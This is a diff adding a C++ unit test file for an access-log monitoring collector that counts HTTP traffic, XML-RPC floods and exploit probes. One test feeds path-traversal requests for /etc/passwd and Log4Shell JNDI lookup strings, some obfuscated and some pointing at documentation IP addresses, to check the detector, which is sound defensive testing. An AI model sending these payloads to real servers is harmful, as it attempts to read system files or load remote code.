@@ -1,0 +1,210 @@
+#include "collectors/access_log_collector.h"
+
+#include <gmock/gmock.h>
+#include <gtest/gtest.h>
+
+#include <filesystem>
+#include <fstream>
+#include <sstream>
+
+#include "prometheus/text_serializer.h"
+#include "testutil/fake_clock.h"
+#include "testutil/testdata.h"
+
+namespace edgewatch {
+namespace {
+
+using ::testing::HasSubstr;
+using ::testing::Not;
+
+class AccessLogCollectorTest : public ::testing::Test {
+ protected:
+  static std::string Text(const Collector& c) {
+    MetricSink sink;
+    EXPECT_TRUE(c.Collect(sink).ok());
+    std::ostringstream out;
+    prometheus::TextSerializer().Serialize(out, std::move(sink).Take());
+    return out.str();
+  }
+
+  Logger logger() { return Logger(log_, LogLevel::kDebug, LogFormat::kLogfmt, clock_); }
+
+  std::ostringstream log_;
+  testing::FakeClock clock_;
+};
+
+// Expected values: the numbers in tests/testdata/access_log/make_incident.py's docstring.
+TEST_F(AccessLogCollectorTest, ReplaysTheXmlrpcFloodIncident) {
+  AccessLogCollector c(AccessLogConfig{}, clock_, logger());
+  ASSERT_TRUE(
+      c.Replay(InputKind::kAccessLog, testing::TestData("access_log/incident-xmlrpc-flood.log"))
+          .ok());
+  const std::string t = Text(c);
+  const std::string log = "log=\"incident-xmlrpc-flood.log\"";
+  EXPECT_THAT(t, HasSubstr("edgewatch_log_lines_total{" + log + "} 1170\n"));
+  EXPECT_THAT(t, HasSubstr("edgewatch_accesslog_parse_errors_total{" + log + "} 2\n"));
+  EXPECT_THAT(
+      t, HasSubstr("edgewatch_http_requests_total{" + log + ",method=\"GET\",code=\"200\"} 625\n"));
+  EXPECT_THAT(t, HasSubstr("edgewatch_http_requests_total{" + log +
+                           ",method=\"POST\",code=\"200\"} 490\n"));
+  EXPECT_THAT(
+      t, HasSubstr("edgewatch_http_requests_total{" + log + ",method=\"POST\",code=\"403\"} 50\n"));
+  EXPECT_THAT(
+      t, HasSubstr("edgewatch_http_requests_total{" + log + ",method=\"GET\",code=\"404\"} 3\n"));
+  // 600*5120 + 450*370 + 50*199 + 40*4300 + 25*5120 + 3*196
+  EXPECT_THAT(t, HasSubstr("edgewatch_http_response_bytes_total{" + log + "} 3549038\n"));
+  EXPECT_THAT(t, HasSubstr("edgewatch_xmlrpc_requests_total{" + log +
+                           ",method=\"POST\",code=\"200\"} 450\n"));
+  EXPECT_THAT(t, HasSubstr("edgewatch_xmlrpc_requests_total{" + log +
+                           ",method=\"POST\",code=\"403\"} 50\n"));
+  EXPECT_THAT(t, HasSubstr("edgewatch_wp_login_requests_total{" + log +
+                           ",method=\"POST\",code=\"200\"} 40\n"));
+  EXPECT_THAT(t, HasSubstr("edgewatch_http_pingback_requests_total{" + log + "} 25\n"));
+  EXPECT_THAT(
+      t, HasSubstr("edgewatch_http_exploit_probes_total{" + log + ",kind=\"shellshock\"} 3\n"));
+  EXPECT_THAT(t,
+              HasSubstr("edgewatch_http_exploit_probes_total{" + log + ",kind=\"log4shell\"} 0\n"));
+  EXPECT_THAT(
+      t, HasSubstr("edgewatch_http_exploit_probes_total{" + log + ",kind=\"path_traversal\"} 0\n"));
+  EXPECT_THAT(t, HasSubstr("edgewatch_xmlrpc_top_client_requests{" + log +
+                           ",client=\"203.0.113.10\"} 300\n"));
+  EXPECT_THAT(t, HasSubstr("edgewatch_xmlrpc_top_client_requests{" + log +
+                           ",client=\"203.0.113.11\"} 150\n"));
+  EXPECT_THAT(t, HasSubstr("edgewatch_xmlrpc_top_client_requests{" + log +
+                           ",client=\"2001:db8::77\"} 50\n"));
+  EXPECT_THAT(t, HasSubstr("edgewatch_xmlrpc_top_client_requests{" + log +
+                           ",client=\"198.51.100.23\"} 40\n"));
+}
+
+TEST_F(AccessLogCollectorTest, TopClientsAreBoundedAndAgeOut) {
+  AccessLogSettings settings{{"/xmlrpc.php"}, {"/wp-login.php"}, 3, 60'000'000'000};
+  AccessLogStats stats(settings);
+  access_log::Request r;
+  r.method = access_log::Method::kPost;
+  r.status = 200;
+  r.path = "/xmlrpc.php";
+  // 1,000 distinct attackers (addresses an attacker controls) and three heavy ones.
+  std::vector<std::string> clients;
+  for (int i = 0; i < 1000; ++i) {
+    clients.push_back("10.0." + std::to_string(i / 250) + "." + std::to_string(i % 250));
+  }
+  for (const auto& c : clients) {
+    r.client = c;
+    stats.Add(r, 0);
+  }
+  for (int i = 0; i < 100; ++i) {
+    for (const char* heavy : {"192.0.2.1", "192.0.2.2", "192.0.2.3"}) {
+      r.client = heavy;
+      stats.Add(r, 1'000'000'000);
+    }
+  }
+  const auto top = stats.TopClients(2'000'000'000);
+  ASSERT_EQ(top.size(), 3u);
+  EXPECT_EQ(top[0].first.view(), "192.0.2.1");
+  EXPECT_EQ(top[1].first.view(), "192.0.2.2");
+  EXPECT_EQ(top[2].first.view(), "192.0.2.3");
+  EXPECT_TRUE(stats.TopClients(200'000'000'000).empty());  // a quiet window later
+  EXPECT_EQ(stats.xmlrpc()[static_cast<int>(access_log::Method::kPost)][100], 1300u);
+}
+
+TEST_F(AccessLogCollectorTest, SignaturesInEveryField) {
+  AccessLogStats stats(AccessLogSettings{});
+  access_log::Request r;
+  r.status = 200;
+  r.request = "GET /a/../../etc/passwd HTTP/1.1";
+  stats.Add(r, 0);
+  r.request = "GET /%2e%2e/%2E%2E/etc/passwd HTTP/1.1";
+  stats.Add(r, 0);
+  r.request = "GET / HTTP/1.1";
+  r.user_agent = "${jndi:ldap://198.51.100.9/a}";
+  stats.Add(r, 0);
+  r.user_agent = "";
+  r.referer = "${${lower:j}ndi:ldap://x/a}";
+  stats.Add(r, 0);
+  r.referer = "";
+  r.request = "GET /?q=%24%7Bjndi:dns://x/a%7D HTTP/1.1";
+  stats.Add(r, 0);
+  r.request = "GET /index.php?x=a..b HTTP/1.1";             // not a traversal
+  r.user_agent = "Mozilla/5.0 (X11; Linux) WordPress/6.4";  // not a pingback verifier
+  stats.Add(r, 0);
+  const auto& p = stats.probes();
+  EXPECT_EQ(p[static_cast<int>(access_log::Probe::kPathTraversal)], 2u);
+  EXPECT_EQ(p[static_cast<int>(access_log::Probe::kLog4Shell)], 3u);
+  EXPECT_EQ(p[static_cast<int>(access_log::Probe::kShellshock)], 0u);
+  EXPECT_EQ(stats.pingbacks(), 0u);
+}
+
+// The live path: a stepped trigger instead of inotify, real files.
+class StepTrigger final : public Trigger {
+ public:
+  bool Wait() override {
+    std::unique_lock<std::mutex> lock(mu_);
+    ++waits_;
+    cv_.notify_all();
+    cv_.wait(lock, [&] { return stopped_ || steps_ > 0; });
+    if (stopped_) {
+      return false;
+    }
+    --steps_;
+    return true;
+  }
+  void Stop() override {
+    std::lock_guard<std::mutex> lock(mu_);
+    stopped_ = true;
+    cv_.notify_all();
+  }
+  // Lets the follower run one more round and waits until it has finished it.
+  void Step() {
+    std::unique_lock<std::mutex> lock(mu_);
+    const int target = waits_ + 1;
+    ++steps_;
+    cv_.notify_all();
+    cv_.wait(lock, [&] { return waits_ >= target; });
+  }
+  void AwaitFirstRound() {
+    std::unique_lock<std::mutex> lock(mu_);
+    cv_.wait(lock, [&] { return waits_ >= 1; });
+  }
+
+ private:
+  std::mutex mu_;
+  std::condition_variable cv_;
+  int waits_ = 0;
+  int steps_ = 0;
+  bool stopped_ = false;
+};
+
+TEST_F(AccessLogCollectorTest, FollowsConfiguredLogsWithTheirFormat) {
+  const auto dir =
+      std::filesystem::temp_directory_path() / ("edgewatch-al-" + std::to_string(::getpid()));
+  std::filesystem::create_directories(dir);
+  const auto path = (dir / "access.log").string();
+  std::ofstream(path) << "old line before start\n";
+  AccessLogConfig config;
+  config.logs.push_back({"site", path, "%h %>s %U"});
+  auto trigger = std::make_unique<StepTrigger>();
+  StepTrigger* step = trigger.get();
+  AccessLogCollector c(config, clock_, logger(), std::move(trigger));
+  ASSERT_TRUE(c.Start().ok());
+  step->AwaitFirstRound();
+  std::ofstream(path, std::ios::app) << "192.0.2.5 200 /xmlrpc.php\n192.0.2.5 200 /x\ngarbage\n\n";
+  step->Step();
+  const std::string t = Text(c);
+  EXPECT_THAT(t, HasSubstr("edgewatch_log_up{log=\"site\"} 1\n"));
+  EXPECT_THAT(t, HasSubstr("edgewatch_log_lines_total{log=\"site\"} 4\n"));
+  EXPECT_THAT(t, HasSubstr("edgewatch_accesslog_parse_errors_total{log=\"site\"} 1\n"));
+  EXPECT_THAT(
+      t,
+      HasSubstr("edgewatch_xmlrpc_requests_total{log=\"site\",method=\"OTHER\",code=\"200\"} 1\n"));
+  EXPECT_THAT(
+      t,
+      HasSubstr("edgewatch_http_requests_total{log=\"site\",method=\"OTHER\",code=\"200\"} 2\n"));
+  EXPECT_THAT(
+      t, HasSubstr("edgewatch_xmlrpc_top_client_requests{log=\"site\",client=\"192.0.2.5\"} 1\n"));
+  EXPECT_THAT(t, Not(HasSubstr("old line")));
+  c.Stop();
+  std::filesystem::remove_all(dir);
+}
+
+}  // namespace
+}  // namespace edgewatch
